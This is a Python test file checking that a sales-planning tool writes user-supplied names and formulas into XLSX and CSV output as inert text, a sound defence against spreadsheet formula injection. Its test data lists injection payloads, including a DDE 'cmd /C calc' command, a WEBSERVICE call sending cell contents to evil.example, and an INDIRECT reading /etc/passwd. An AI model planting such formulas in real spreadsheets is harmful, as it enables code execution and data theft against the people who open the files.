"""What people typed never becomes a live formula."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from corpus.base import book, places
from openpyxl import load_workbook
from support.command import run
from support.tiny_plan import DIMENSIONS, planned, tiny_plan

from salesbook.problems import Location, Text, problem
from salesbook.sheets.plan_books import BookOrder, build_book
from salesbook.xlsx.annotation.annotate import annotate
from salesbook.xlsx.patching.cell_text import StoredFormula
from salesbook.xlsx.patching.patch import set_cells
from salesbook.xlsx.writing.write import write_book

LIVE = ('=HYPERLINK("http://evil.example","x")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1")


def formulas(data: bytes) -> list[str]:
    cells = (cell for page in load_workbook(io.BytesIO(data)) for row in page.iter_rows() for cell in row)
    return [str(cell.value) for cell in cells if cell.data_type == "f"]


@pytest.mark.parametrize("text", LIVE)
def test_names_in_a_plan_are_text_in_its_books(text: str) -> None:
    products = tuple(replace(each, name=Text.of(text)) for each in DIMENSIONS.products)
    plan = replace(tiny_plan(), dimensions=replace(DIMENSIONS, products=products), company=Text.of(text))
    spec, _ = build_book(BookOrder(book="return", owner="ann", file="ann"), planned(plan), language="en")
    assert not [
        each for each in formulas(write_book(spec)) if "evil" in each or "cmd" in each or each == text
    ]


@pytest.mark.parametrize("text", LIVE)
def test_what_was_typed_stays_text_in_an_annotated_copy(text: str) -> None:
    base = book().data
    row, column = places(base)["2027-01/tea", "revenue_ac"]
    data = set_cells(base, "Actuals", {(row, column): text})
    where = Location(sheet="Actuals", cell="H10", row=Text.of(text), column=Text.of(text))
    noted = annotate(data, [problem("not-a-number", where, text, expected=Text.of(text))], language="both")
    before, after = formulas(data), formulas(noted)
    assert [each for each in after if each not in before and text.strip() in each] == []


OUTSIDE = (
    'WEBSERVICE("http://evil.example/?"&A1)',
    '_xlfn.WEBSERVICE("x")',
    'IF(A1>0,HYPERLINK("http://evil.example","here"),0)',
    "HYPERLINK(A1)",
    "[1]Sheet1!A1+1",
    "SUM('[prices.xlsx]Sheet 1'!A1:A9)",
    "[1]!total",
    "cmd|'/C calc'!A0",
    'IMAGE("https://evil.example/p.png")',
    'RTD("server",,"topic")',
    'IMPORTXML("x","y")',
    "INDIRECT(\"'file:///etc/passwd'#$Sheet1.A1\")",
)
INSIDE = (
    'HYPERLINK("#Actuals!A1","here")',
    "SUM(Table1[Total])",
    "Table1[[#This Row],[a]]*2",
    '"see [1]! a|b"',
    "A1-B1",
)


@pytest.mark.parametrize("text", [*OUTSIDE, *INSIDE])
def test_formulas_that_reach_outside_are_text_in_an_annotated_copy(text: str) -> None:
    base = book().data
    row, column = places(base)["2027-01/tea", "revenue_ac"]
    data = set_cells(base, "Actuals", {(row, column): StoredFormula(text, 7)})
    noted = annotate(
        data, [problem("value-missing", Location(sheet="Actuals", cell="H11"), expected="a")], language="en"
    )
    cell = load_workbook(io.BytesIO(noted))["Actuals"].cell(row + 1, column + 1)
    assert (cell.value, cell.data_type) == (f"={text}", "s" if text in OUTSIDE else "f")
    told = [str(each.value) for line in load_workbook(io.BytesIO(noted))["Problems"] for each in line]
    assert any("SB360" in each for each in told) == (text in OUTSIDE)


@pytest.mark.parametrize("text", ['=HYPERLINK("x")', "@SUM(A1)", "+1+1"])
def test_names_in_a_table_of_targets_are_no_formulas_in_csv(
    text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plan = tmp_path / "plan"
    assert run(capsys, "init", plan).code == 0
    people = (plan / "people.csv").read_text("utf-8-sig")
    quoted = '"' + text.replace('"', '""') + '"'
    (plan / "people.csv").write_text(people.replace("张三,Zhang San", f"{quoted},{quoted}"), "utf-8")
    shown = run(capsys, "plan", "show", plan, "--by", "person", "--format", "csv").out
    fields = [field for row in csv.reader(io.StringIO(shown)) for field in row]
    assert not [field for field in fields if field.startswith(("=", "+", "@"))]
